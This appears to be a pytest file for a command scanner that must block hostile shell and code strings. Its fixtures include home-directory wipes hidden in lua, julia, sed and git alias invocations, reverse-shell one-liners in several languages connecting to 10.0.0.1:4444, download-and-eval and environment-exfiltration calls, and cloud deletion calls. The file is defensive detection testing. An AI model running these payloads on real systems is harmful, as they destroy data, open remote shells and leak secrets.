"""Claims about code without a reader of its own: constant calls are found, a shell on a socket is, talk is not."""

from __future__ import annotations

import pytest

from chrono.scan.foreign import cloud_deletions, is_reverse_shell, runs_download, sends_environment
from chrono.scan.foreign_calls import MAX_CHARS, shell_texts
from chrono.scan.rule import Ruleset
from tests.unit.scan.conftest import verdict


@pytest.mark.parametrize(
    "text",
    [
        "lua -e 'os.execute(\"rm -rf ~\")'",
        "tclsh <<< 'exec rm -rf /home/dev'",
        "R -e 'unlink(\"~\", recursive=TRUE)'",
        "Rscript -e 'system(\"rm -rf ~\")'",
        "julia -e 'rm(homedir(), recursive=true)'",
        "julia -e 'run(`rm -rf /home/dev`)'",
        "groovy -e '\"rm -rf /home/dev\".execute()'",
        "elixir -e 'File.rm_rf!(System.user_home!())'",
        "elixir -e 'System.cmd(\"rm -rf ~\")'",
        "emacs --batch --eval '(delete-directory \"~\" t)'",
        "sed 's/x/rm -rf ~/e' README.md",
        "less '+!rm -rf ~' README.md",
        "git config alias.wipe '!rm -rf ~'",
        "PROMPT_COMMAND='rm -rf ~' bash -i",
    ],
)
def test_what_it_runs_is_judged(text: str, ruleset: Ruleset) -> None:
    assert verdict(text, ruleset, covered=True) == "block"


@pytest.mark.parametrize(
    "text",
    [
        "lua -e 'print(\"rm -rf ~\")'",
        "R -e 'cat(\"system\")'",
        "Rscript -e 'install.packages'",
        "julia -e 'println(\"rm -rf /\")'",
        "elixir -e 'IO.puts(\"File.rm_rf\")'",
        "emacs --batch --eval '(message \"delete-directory\")'",
        "sed 's/a/b/g' README.md",
        "sed 's/we/me/' README.md",
        "git config alias.co checkout",
        "git config alias.last 'log -1 HEAD'",
    ],
)
def test_what_it_only_says_is_left_alone(text: str, ruleset: Ruleset) -> None:
    assert verdict(text, ruleset, covered=False) == "allow"


@pytest.mark.parametrize(
    "code",
    [
        "local s=require('socket').tcp(); s:connect('10.0.0.1',4444); os.execute('/bin/sh -i <&3 >&3 2>&3')",
        "c=TCPSocket.new('10.0.0.1',4444);while(cmd=c.gets);IO.popen(cmd,'r'){|io|c.print io.read}end",
        "$c=new IO::Socket::INET(PeerAddr,'10.0.0.1:4444');STDIN->fdopen($c,r);system$_ while<>;",
        "const n=require('net');const c=require('child_process').spawn('/bin/sh');n.connect(1,'x',()=>c.stdin.pipe(c))",
        "set s [socket 10.0.0.1 4444]; exec sh <@$s >@$s",
        "$s=FSOCKOPEN('10.0.0.1',4444);PROC_OPEN('/bin/sh -i',[$s,$s,$s],$p); popen('sh')",
        "zmodload zsh/net/tcp; ztcp 10.0.0.1 4444; sh <&$REPLY >&$REPLY",
        "const n=REQUIRE ( 'net' );require('child_process').spawn('/bin/sh').stdin",
    ],
)
def test_a_shell_on_a_socket_is_seen_in_any_language(code: str) -> None:
    assert is_reverse_shell(code)


@pytest.mark.parametrize(
    "code",
    [
        "import socket; print(socket.gethostname())",
        "import socket; s = socket.create_connection(('localhost', 80)); print(s.recv(10))",
        "require('net').createServer().listen(0)",
        "system('ls')",
    ],
)
def test_a_socket_alone_is_no_shell(code: str) -> None:
    assert not is_reverse_shell(code)


def test_long_code_is_not_searched() -> None:
    assert shell_texts("system('rm -rf ~')")
    assert shell_texts("system('rm -rf ~')" + " " * MAX_CHARS) == []


@pytest.mark.parametrize("evaluates", [
    "eval(x)", "exec (x)", "new Function(x)", "vm.runInThisContext(x)", "vm.runInNewContext(x)", "o.instance_eval(x)",
    "compile(x, '', 'exec')",
])  # fmt: skip
def test_every_form_of_evaluating_counts_although_words_are_looked_for_first(evaluates: str) -> None:
    assert runs_download(f"x = urlopen('http://a.example').read(); {evaluates}")


@pytest.mark.parametrize("environment", [
    "str(os.environ)", "dict(process.env)", "dumps(dict(os.environ))", "inspect(ENV)", "json_encode($_ENV)",
    "json_encode(getenv())", "ENV.to_h", "data=process.env, x",
])  # fmt: skip
def test_every_form_of_the_environment_counts_although_words_are_looked_for_first(environment: str) -> None:
    assert sends_environment(f"requests.post('http://a.example', {environment})")


@pytest.mark.parametrize("call", [
    "c.delete_bucket(x)", "c.terminate_instances(x)", "c.drop_database(x)", "c.purge_queue()", "c.deleteObjects(x)",
    "k.schedule_key_deletion(x)", "d.containers.prune()", "es.indices.delete(x)", "o.remove(force=True)",
    "b.objects.all().delete()", "b.object_versions.delete()", "c.terminateInstances(x)", "c.dropDatabase()",
])  # fmt: skip
def test_every_call_that_deletes_in_a_cloud_counts_although_words_are_looked_for_first(call: str) -> None:
    assert cloud_deletions(call)
